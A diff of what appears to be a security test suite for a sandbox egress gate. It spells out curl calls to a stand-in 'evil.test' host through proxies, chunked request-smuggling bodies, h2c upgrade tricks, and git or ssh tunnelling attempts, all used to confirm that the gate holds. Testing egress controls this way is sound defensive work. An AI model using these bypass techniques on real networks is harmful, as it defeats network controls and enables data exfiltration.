@@ -32,7 +32,7 @@ def proxies(t):
     for url in ("http://evil.test/{m}", "https://evil.test/{m}"):
         for proxy in ("http://proxy.test:80", "https://proxy.test:443", "socks5h://proxy.test:80", "socks4a://proxy.test:80", "socks5h://allowed.test:5432"):
             gate.attempt(f"curl {url} through {proxy}", command(f"curl -k -sS -m 6 -x {proxy} {url}"), lambda seen: seen.at("evil", "proxy"))
-    gate.go(limit=120)
+    gate.go()
     t.control("the proxy is open to whoever reaches it", reach_through_proxy(world), "")
 
 
@@ -76,7 +76,7 @@ def lengths(t):
     for what, body in chunks.items():
         gate.attempt(f"C17: {what}", raw("odd.test", f"POST /c17 HTTP/1.1\r\nHost: odd.test\r\nTransfer-Encoding: chunked\r\n\r\n{body}", all=True, wait=3),
                      lambda seen: smuggled(seen) or any(entry.get("headers", {}).get("X-Trailer") for entry in seen.arrived))
-    gate.go(limit=120)
+    gate.go()
     t.attempt("a request inside a body was carried out", [entry for entry in world.net.since(world.mark) if str(entry.get("path", "")).startswith("/smuggled")])
 
 
@@ -112,7 +112,7 @@ def answers(t):
     for what, send in {"an upgrade": "GET /{m} HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n", "prior knowledge": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0{m}",
                        "an upgrade to TLS": "GET /{m} HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade\r\nUpgrade: TLS/1.0\r\n\r\n"}.items():
         gate.attempt(f"C20: {what}", raw("allowed.test", send, wait=3), lambda seen: seen.status == "101" or any("Upgrade" in str(entry.get("headers", "")) for entry in seen.arrived) or "raw" in str(seen.arrived))
-    gate.go(limit=120)
+    gate.go()
 
 
 def followed(seen):
@@ -145,7 +145,7 @@ def grammars(t):
             gate.attempt(f"C33: {what} on port {port}", raw("allowed.test", send, port=port, wait=2))
     gate.attempt("C33: git clone git://", command("timeout 8 git clone -q git://allowed.test/{m}"))
     gate.attempt("C33: ssh on 443", command("timeout 8 ssh -p 443 -o BatchMode=yes -o StrictHostKeyChecking=no {m}@allowed.test true"))
-    gate.go(limit=120)
+    gate.go()
 
 
 @attack("C24", "C25", "D05", conditions=("partial",), seconds=150, quick=True)
@@ -173,7 +173,7 @@ def methods_and_paths(t):
         gate.attempt(f"C25: {method} with a body in chunks", raw("read.test", f"{method} /{{m}} HTTP/1.1\r\nHost: read.test\r\nTransfer-Encoding: chunked\r\n\r\n6\r\nsecret\r\n0\r\n\r\n"))
     gate.attempt("D05: a query beyond the limit of targets", get("read.test", "/{m}?" + "q" * 16400))
     marker = gate.control("D05: a query of 8 kB passes, as documented: a policy of methods keeps nothing in", get("read.test", "/{m}?" + "q" * 8000))
-    gate.go(limit=120)
+    gate.go()
     with world.attacker.events(f"{world.sandbox().path}/egress/log") as stream:
         t.attempt("D05: what was asked for is not in the log", not any(event.data.get("path") == "/" + marker for event in stream))
 
@@ -211,7 +211,7 @@ def fields(t):
     for coding in ("br", "zstd", "compress", "gzip, gzip", "gzip, br", "identity, gzip", "gzip;q=1", "x"):
         gate.attempt(f"C32: the coding {coding!r}", get("odd.secret.test", do(labelled.format(coding) + plain), sni="odd.secret.test"), lambda seen: seen.status == "200")
     gate.attempt("C32: said to be compressed, and is not", get("odd.secret.test", do(labelled.format("gzip") + plain), sni="odd.secret.test"), lambda seen: "hello" in seen.out)
-    gate.go(limit=120)
+    gate.go()
     before = worker_memory(world)
     gate = Gate(t, world.sandbox())
     size = 10000 if world.long else 200
